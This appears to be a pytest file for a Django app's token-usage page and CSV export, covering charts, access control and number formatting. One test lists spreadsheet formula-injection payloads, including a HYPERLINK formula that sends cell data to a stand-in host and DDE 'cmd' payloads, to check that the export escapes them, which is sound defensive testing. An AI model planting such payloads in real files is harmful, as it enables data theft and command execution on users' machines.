"""The usage page and its CSV export."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from tests.factories import TaskFactory
from usage.charts import MAX_SERIES, OTHER, spend_chart

pytestmark = pytest.mark.django_db


@pytest.fixture
def reported(agent_client, board):
    client, agent = agent_client, agent_client.agent
    task = TaskFactory(board=board, title="Write the release notes")
    now = timezone.now()
    reports = [
        {
            "model": "gpt-4o",
            "input_tokens": 1000,
            "output_tokens": 500,
            "idempotency_key": "a",
            "task": task.pk,
        },
        {
            "model": "gpt-4o-mini",
            "input_tokens": 1_000_000,
            "idempotency_key": "b",
            "occurred_at": (now - timedelta(days=2)).isoformat(),
        },
    ]
    assert client.post("/api/v1/agent/usage", {"reports": reports}, format="json").status_code == 200
    return agent, task


def page_client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_page_shows_the_chart_and_the_top_lists(user, reported, django_assert_max_num_queries):
    client = page_client(user)
    with django_assert_max_num_queries(12):
        response = client.get("/usage/")
    assert response.status_code == 200
    html = response.content.decode()
    chart = response.context["chart"]
    assert [series.label for series in chart.series] == ["gpt-4o-mini", "gpt-4o"]
    assert [sum(series.values) for series in chart.series] == [0.15, 0.01]
    assert 'data-chart="usage-spend-chart"' in html and 'id="usage-spend-chart"' in html
    assert "spender" in html and "Write the release notes" in html
    stacked_by_agent = client.get("/usage/?stack=agent&days=7").context["chart"]
    assert [(series.label, round(sum(series.values), 2)) for series in stacked_by_agent.series] == [
        ("spender", 0.16)
    ]


def test_an_empty_range_says_how_to_report(user):
    html = page_client(user).get("/usage/").content.decode()
    assert "No usage reported in this range" in html


def test_another_organizations_usage_is_not_shown(outsider, reported):
    html = page_client(outsider).get("/usage/").content.decode()
    assert "spender" not in html and "No usage reported" in html


def test_the_csv_export_has_one_row_per_rollup_row(user, reported):
    response = page_client(user).get("/usage/export.csv?days=7")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted((row["model"], row["cost_usd"]) for row in rows) == [
        ("gpt-4o", "0.01"),
        ("gpt-4o-mini", "0.15"),
    ]


# What the drill reported as model names. (A leading tab or CR cannot reach a model name: the
# usage API strips it; infra.csv_export's own test covers those prefixes.)
FORMULA_MODELS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
]


def test_the_csv_export_escapes_formulas_in_reported_model_names(user, agent_client):
    reports = [
        {"model": model, "input_tokens": 10, "idempotency_key": f"formula-{index}"}
        for index, model in enumerate(FORMULA_MODELS)
    ]
    response = agent_client.post("/api/v1/agent/usage", {"reports": reports}, format="json")
    assert response.status_code == 200, response.content
    response = page_client(user).get("/usage/export.csv?days=7")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    # A leading ' makes a spreadsheet show the cell as text instead of running it.
    assert sorted(row["model"] for row in rows) == sorted("'" + model for model in FORMULA_MODELS)
    # The export's own numbers stay numbers.
    assert {(row["reports"], row["input_tokens"]) for row in rows} == {("1", "10")}


def test_the_page_needs_a_login(client):
    assert client.get("/usage/").status_code == 302


def test_many_series_are_folded_into_other():
    today = timezone.now().date()
    rows = [(today, f"model-{n}", 1_000_000 * (n + 1)) for n in range(MAX_SERIES + 2)]
    chart = spend_chart(rows, first=today, last=today)
    assert len(chart.series) == MAX_SERIES + 1 and chart.series[-1].label == OTHER
    # The smallest models fold into "other"; the day's total is unchanged.
    assert sum(series.values[0] for series in chart.series) == pytest.approx(sum(range(1, MAX_SERIES + 3)))


def test_token_counts_have_thousands_separators(user, reported):
    """1,001,500 tokens, not 1001500: on the usage page, the agent's page and the task's page."""
    agent, task = reported
    client = page_client(user)
    usage_html = client.get("/usage/").content.decode()
    assert "1,001,500" in usage_html and "1001500" not in usage_html
    assert "1,001,000 / 500" in usage_html
    agent_html = client.get(f"/agents/{agent.pk}/").content.decode()
    assert "1,001,500" in agent_html and "1001500" not in agent_html
    task_html = client.get(f"/boards/{task.board_id}/tasks/{task.pk}/").content.decode()
    assert "1,500" in task_html and "(1,000 in, 500 out)" in task_html
